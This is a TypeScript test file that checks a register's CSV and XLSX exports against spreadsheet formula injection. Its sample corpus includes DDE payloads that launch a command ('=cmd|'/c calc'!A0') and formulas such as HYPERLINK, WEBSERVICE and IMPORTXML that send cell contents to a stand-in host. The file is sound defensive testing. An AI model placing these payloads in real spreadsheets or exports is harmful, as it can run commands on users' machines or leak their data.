import { openList } from '@tabir/import';
import { localDate } from '@tabir/kernel';
import { dikCsv, dikXlsx, type PublicItem, type PublicList } from '@tabir/register';
import { strFromU8, unzipSync } from 'fflate';
import { buffer } from 'node:stream/consumers';
import { EDITION } from '../../testing/src/sample-edition.js';
import { ITEM, LIST } from '../../testing/src/sample-public-item.js';
import { editionList } from './edition-list.js';

/** What spreadsheets have been made to do with a text, and what only looks like it. */
const CORPUS = [
  ...['=1+1', '+62', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '\tteks', '  =1', '\u00a0=1', '\u200b=1', '\ufeff=1'],
  ...['＝1+1', '＋1', '－1', '＠x', '%0A=1+1', '0x09=1', "'=1", "''+1", "' -1", '"=1+1"', "'"],
  ...["=cmd|'/c calc'!A0", "-2+3+cmd|' /C calc'!A0", '=DDE("cmd";"/c calc";"A0")', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ...[
    '=HYPERLINK("http://x.example?"&A1,"Klik")',
    '=WEBSERVICE("http://x.example")',
    '=IMPORTXML(CONCAT("http://x.example",A1),"//a")',
  ],
  ...['a;=1+1;b', 'a; =1', "a;'=1", 'a\n=1+1', 'a\r\n@x', '";=1;"', ',=1', '",=1+1,"', "a\n'=1", '- satu\n- dua'],
] as const;

const HEADER = Object.fromEntries(
  'bentuk=cetak tempat_penetapan=K nama_pejabat=N jabatan_pejabat=P badan_publik=B unit_kerja=U jenis_klasifikasi=I lingkup=seluruh alasan=A nomor_lembar_uji=1 tanggal_lembar_uji=2026-01-01 kesempatan_uji=sebelum_permohonan peserta_uji=P nomor_penetapan=1 tanggal_penetapan=2026-01-05'
    .split(' ')
    .map((one) => one.split('=') as [string, string]),
);

/** Every field that a person wrote. The period is one that an office writes, so that the row can be read again. */
const ITEMS: readonly PublicItem[] = CORPUS.map((words, index) => ({
  ...{ ...ITEM, kode: `k${index}`, title: words, summary: words, holder: words, determinationNumber: words },
  ...{ consequenceIfOpened: words, consequenceIfClosed: words, acts: [words] },
  ...{ termKind: 'date', startsOn: null, endsOn: localDate('2027-10-13') },
}));

const LISTS: readonly (readonly [string, PublicList])[] = [
  ['the live list', LIST],
  ['an edition', editionList(EDITION)],
];
const csv = (list: PublicList): Promise<Buffer> => buffer(dikCsv(list, ITEMS));

/** As our own importer reads them again. */
async function readAgain(bytes: Uint8Array, name: string): Promise<string[][]> {
  const { lines } = await openList(bytes, name, { header: HEADER });
  return [...lines({ agencies: [], today: localDate('2026-11-23') })].map((line) => {
    expect(line).not.toHaveProperty('reasons');
    const { title, determination } = (line as unknown as { payload: Read }).payload;
    return [title, determination.consequenceIfOpened, determination.consequenceIfClosed];
  });
}
interface Read {
  readonly title: string;
  readonly determination: { readonly consequenceIfOpened: string; readonly consequenceIfClosed: string };
}

const oneLine = (text: string): string => text.replace(/\s+/g, ' ').trim();
const lined = (text: string): string => text.replace(/\r\n?/g, '\n').trim();

describe.each(LISTS)('texts that could be formulas, in %s', (_which, list) => {
  it('are strings of a workbook, which has no formula and no link to anything', async () => {
    const parts = unzipSync(await buffer(dikXlsx(list, ITEMS)));
    const sheet = strFromU8(parts['xl/worksheets/sheet1.xml']!);
    expect(sheet).not.toMatch(/<f[ >/]|<hyperlink/);
    const cells = [...sheet.matchAll(/<c r="[B-M](\d+)"([^>]*)>(?!<\/c>)/g)].filter(([, row]) => Number(row) > 5);
    expect(cells.length).toBeGreaterThan(CORPUS.length * 8);
    for (const [, , attributes] of cells) expect(attributes).toMatch(/ t="(s|inlineStr)"/);
    expect(Object.keys(parts).filter((name) => /externalLink|connections|vba/i.test(name))).toEqual([]);
  });

  it('begin no cell of a CSV as a formula does, whichever sign the spreadsheet takes for the end of a cell', async () => {
    const text = (await csv(list)).toString().replace(/^\ufeff/, '');
    for (const sign of [',', ';'])
      for (const cell of cellsOf(text, sign)) expect(cell).not.toMatch(/^[\s\ufeff\u200b]*[=+\-@＝＋－＠]|^[\t\r\n]/u);
  });

  it.each<[string, (list: PublicList) => Promise<Uint8Array>]>([
    ['dik.csv', csv],
    ['dik.xlsx', (one) => buffer(dikXlsx(one, ITEMS))],
  ])('are what they were when %s is imported', async (name, make) => {
    const read = await readAgain(await make(list), name);
    expect(read.map(([title]) => title)).toEqual(CORPUS.map(oneLine));
    for (const column of [1, 2]) expect(read.map((row) => lined(row[column]!))).toEqual(CORPUS.map(lined));
  });
});

/** As spreadsheets part them: a quotation mark counts only at the beginning of a cell. */
function cellsOf(text: string, sign: string): string[] {
  const cells: string[] = [];
  for (let [at, end] = [0, 0]; at < text.length; at = ++end) {
    if (text[at] === '"') end = at + /^"(?:[^"]|"")*"?/.exec(text.slice(at))![0].length;
    while (end < text.length && text[end] !== sign && !/[\r\n]/.test(text[end]!)) end++;
    cells.push(text.slice(at, end).replace(/^"/, ''));
  }
  return cells;
}
